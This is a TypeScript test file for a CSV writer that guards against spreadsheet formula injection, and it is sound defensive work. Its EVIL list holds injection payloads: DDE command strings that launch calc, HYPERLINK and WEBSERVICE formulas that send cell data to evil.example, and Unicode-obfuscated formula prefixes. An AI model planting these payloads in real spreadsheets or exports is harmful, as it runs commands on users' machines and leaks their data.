import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_MARK, csvRow, withoutFormula } from './csv.ts';

const readBack = (text: string, delimiter = ','): string[][] =>
  parse(text, { bom: true, delimiter, relax_column_count: true, relax_quotes: true }) as string[][];

/** Whether a spreadsheet would run this cell: asked here in other words than the writer's. */
function runs(cell: string): boolean {
  const seen = [...cell.normalize('NFKC')].find((letter) => !/^[\s\p{Cc}\p{Cf}"]$/u.test(letter));
  return seen !== undefined && '=+-@−'.includes(seen);
}
/** Whether any reader could see a formula begin somewhere in this text. */
const holdsFormula = (text: string): boolean =>
  /^[\t\r\n\0\ufeff]/.test(text) || text.split(/[;|\t\r\n]/).some(runs);

const EVIL = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＝1＋1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '−2+3',
  '\ufeff=1+1',
  '\ufeff\ufeff=1+1',
  '\ufeff\t=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  "=cmd|'/C calc'!AUTH-0",
  '=HYPERLINK("http://evil.example/?"&A1,"點我")',
  '=WEBSERVICE("http://evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '"=1+1"',
  '""=1+1',
  'a;=1+1',
  'a\t=1+1',
  '一行\n=1+1',
  '一行\r\n-2+3',
  'a";=1+1;"',
  '\tplain',
  '\rplain',
  '\ufeffplain',
];

describe('tables for spreadsheets', () => {
  it.each(EVIL.map((text) => [JSON.stringify(text), text]))(
    'WEB-3: %s is text in every spreadsheet',
    (_, text) => {
      const file = `${CSV_MARK}${csvRow(['a', text, 'z'])}${csvRow([text])}`;
      for (const delimiter of [',', ';', '\t']) {
        for (const cell of readBack(file, delimiter).flat())
          expect(runs(cell), JSON.stringify(cell)).toBe(false);
      }
      expect(readBack(file)[0]).toEqual(['a', withoutFormula(text), 'z']);
      // Nothing is lost: only apostrophes are added.
      expect(withoutFormula(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    },
  );

  it('WEB-3: what is read back is what was written, but for formulas (round trip)', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({
        unit: fc.constantFrom(...'=+-@＝＋－＠\t\r\n;,"\'| \ufeff\u200b\u3000a一😀'),
        maxLength: 12,
      }),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const file = CSV_MARK + rows.map(csvRow).join('');
          const read = readBack(file);
          expect(read.length).toBe(rows.length);
          for (const [y, row] of rows.entries()) {
            for (const [x, cell] of row.entries()) {
              const back = read[y]?.[x] ?? '';
              if (holdsFormula(cell)) expect(holdsFormula(back) && runs(back)).toBe(false);
              else expect(back).toBe(cell);
            }
          }
        },
      ),
      { numRuns: 500 },
    );
  });

  it('WEB-3: no reader, whatever it parts cells by, finds the beginning of a formula', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@＝－\t\r\n;"\' \ufeffa'), maxLength: 10 });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (row) => {
        // The crudest reader: it knows no quotes but those around a cell.
        for (const piece of csvRow(row).split(/[,;\t\r\n]/))
          expect(runs(piece.replace(/^"+/, ''))).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it('writes numbers bare, nothing as nothing, and refuses numbers that could begin a formula', () => {
    expect(csvRow(['編號', 3, null, 'a "b", c'])).toBe('"編號",3,,"a ""b"", c"\r\n');
    for (const bad of [-1, Number.NaN, Number.POSITIVE_INFINITY])
      expect(() => csvRow([bad])).toThrow(RangeError);
  });
});
